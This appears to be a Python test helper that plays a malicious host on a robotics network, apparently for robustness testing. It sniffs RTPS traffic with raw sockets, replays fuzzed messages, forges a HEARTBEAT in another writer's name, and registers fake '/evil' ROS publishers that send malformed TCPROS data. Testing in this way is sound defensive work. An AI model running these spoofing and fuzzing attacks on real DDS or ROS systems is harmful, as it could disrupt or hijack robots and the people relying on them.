"""A malicious host on the network of other hosts: `python -m tests.helpers.hostile_wire ATTACK ARGUMENT...`.

`rtps COUNT` captures messages of other hosts and sends them again with changes. `heartbeat` sends one message in the
name of the writer of a stream; it states that the oldest sample of the writer has a very high sequence number.
`tcpros MASTER HOST:PORT...` connects to nodes and sends data that is not valid TCPROS, and registers publishers that
do the same. The program reports its progress on standard error, and `done` at its end.
"""

import itertools
import random
import socket
import struct
import sys
import threading
import time
from collections.abc import Sequence
from contextlib import suppress
from typing import Any, Final
from xmlrpc.client import ServerProxy
from xmlrpc.server import SimpleXMLRPCServer

from fieldkit.agent.messaging.stream import MAGIC
from tests.fuzz.mutate import mutate

TOPIC: Final = "/stream"
_ETH_P_ALL: Final = 0x0003
"""All protocols, including packets sent by this host."""
_UDP: Final = 17
_SEEDS: Final = 40
"""Number of captured messages, which are changed and sent again."""
_HEADER_BYTES: Final = 20
"""Size of an RTPS header: protocol, version, vendor and GUID prefix."""
_DATA, _HEARTBEAT, _LITTLE_ENDIAN = 0x15, 0x07, 0x01
_SEQUENCE_AHEAD: Final = 1 << 40
_MAX_BYTES: Final = 60_000
_BAD_PUBLISHERS: Final = 8
_CONNECTIONS: Final = 15
"""Number of connections to each node."""

Datagram = tuple[tuple[str, int], bytes]


def captured_messages() -> list[Datagram]:
    """Capture RTPS messages of other hosts, and return each with its destination."""
    messages: list[Datagram] = []
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL)) as capture:
        while len(messages) < _SEEDS:
            packet = capture.recv(65_536)
            size = 4 * (packet[0] & 0xF)
            payload = packet[size + 8 :]
            if packet[0] >> 4 == 4 and packet[9] == _UDP and payload.startswith(b"RTPS"):
                (port,) = struct.unpack_from(">H", packet, size + 2)
                messages.append(((socket.inet_ntoa(packet[16:20]), port), payload))
    return messages


def rtps(count: int) -> None:
    """Send changed messages of other hosts, half of them with an unchanged header."""
    random_source, messages = random.Random(count), captured_messages()
    seeds = [payload for _, payload in messages]
    _report("messages captured")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for number in range(count):
            target, payload = random_source.choice(messages)
            header_bytes = _HEADER_BYTES * (number % 2)
            changed = payload[:header_bytes] + mutate(payload[header_bytes:], seeds, random_source)
            with suppress(OSError):  # the send queue is full
                sender.sendto(changed[:_MAX_BYTES], target)


def heartbeat() -> None:
    """Send a HEARTBEAT with a very high first sequence number in a writer's name (RTPS 2.3, 9.4.5.6)."""
    target, payload = next(message for message in captured_messages() if writers(message[1]))
    writer = writers(payload)[0]
    # Entity id of an unknown reader; the first and last sequence number; the count, which must increase.
    submessage = (
        bytes(4)
        + writer
        + 2 * struct.pack("<iI", _SEQUENCE_AHEAD >> 32, _SEQUENCE_AHEAD & 0xFFFFFFFF)
        + struct.pack("<i", 1 << 30)
    )
    heartbeat_message = (
        payload[:_HEADER_BYTES] + struct.pack("<BBH", _HEARTBEAT, _LITTLE_ENDIAN, len(submessage)) + submessage
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(heartbeat_message, target)


def writers(payload: bytes) -> list[bytes]:
    """Entity ids of the writers of all stream samples in an RTPS message (9.4.5.3)."""
    writer_ids, position = [], _HEADER_BYTES
    while position + 4 <= len(payload):
        kind, _, size = struct.unpack_from("<BBH", payload, position)
        content = payload[position + 4 : position + 4 + size] if size else payload[position + 4 :]
        if kind == _DATA and MAGIC in content:
            writer_ids.append(content[8:12])
        position += 4 + len(content)
    return writer_ids


def header(**fields: str) -> bytes:
    """A connection header of TCPROS."""
    lines = [f"{name}={value}".encode() for name, value in fields.items()]
    packed = b"".join(struct.pack("<I", len(line)) + line for line in lines)
    return struct.pack("<I", len(packed)) + packed


def tcpros(master: str, nodes: Sequence[tuple[str, int]]) -> None:
    """Connect to nodes as a bad subscriber, and accept connections as bad publishers."""
    kind = {"type": "std_msgs/UInt8MultiArray", "md5sum": "82373f1612381bb6ee473b5cd6f5d89c"}
    request = header(callerid="/evil", topic=TOPIC, **kind)
    reply = header(callerid="/evil", latching="0", message_definition="", topic=TOPIC, **kind)
    reply += struct.pack("<I", 20) + bytes(20)
    random_source, connected = random.Random(5), threading.Semaphore(0)
    address = own_address(master)
    for number in range(_BAD_PUBLISHERS):
        data = socket.create_server((address, 0))
        changed = mutate(reply, [reply, request], random_source)[:_MAX_BYTES]
        threading.Thread(target=publish, args=(data, changed, connected), daemon=True).start()
        api = SimpleXMLRPCServer((address, 0), logRequests=False, allow_none=True)
        endpoint = ["TCPROS", address, data.getsockname()[1]]
        api.register_function(lambda *_, endpoint=endpoint: [1, "ready", endpoint], "requestTopic")
        threading.Thread(target=api.serve_forever, daemon=True).start()
        uri = f"http://{address}:{api.server_address[1]}/"
        register(master, f"/evil{number}", kind["type"], uri)
    _report("registered")
    for _ in range(_BAD_PUBLISHERS):
        assert connected.acquire(timeout=60)
    _report("connections accepted")
    for node, _ in itertools.product(nodes, range(_CONNECTIONS)):
        with socket.create_connection(node, timeout=5) as stream, suppress(OSError):
            stream.sendall(mutate(request, [request, reply], random_source)[:_MAX_BYTES])


def own_address(master: str) -> str:
    """The local address of a connection to the master."""
    host, _, port = master.removeprefix("http://").rstrip("/").rpartition(":")
    with socket.create_connection((host, int(port))) as connection:
        address: str = connection.getsockname()[0]
    return address


def register(master: str, name: str, kind: str, uri: str) -> None:
    """Register a publisher with the master."""
    proxy: Any = ServerProxy(master)
    code, message, _ = proxy.registerPublisher(name, TOPIC, kind, uri)
    assert code == 1, message


def publish(server: socket.socket, data: bytes, connected: threading.Semaphore) -> None:
    """Send invalid data to each subscriber."""
    while True:
        stream, _ = server.accept()
        with stream, suppress(OSError):
            stream.recv(65_536)
            stream.sendall(data)
        connected.release()


def main(attack: str, *arguments: str) -> None:
    """Run an attack, and report its end."""
    if attack == "rtps":
        rtps(int(arguments[0]))
    elif attack == "heartbeat":
        heartbeat()
    else:
        master, *nodes = arguments
        tcpros(master, [(node.partition(":")[0], int(node.partition(":")[2])) for node in nodes])
    _report("done")


def _report(message: str) -> None:
    sys.stderr.write(f"{time.monotonic():.3f} {message}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
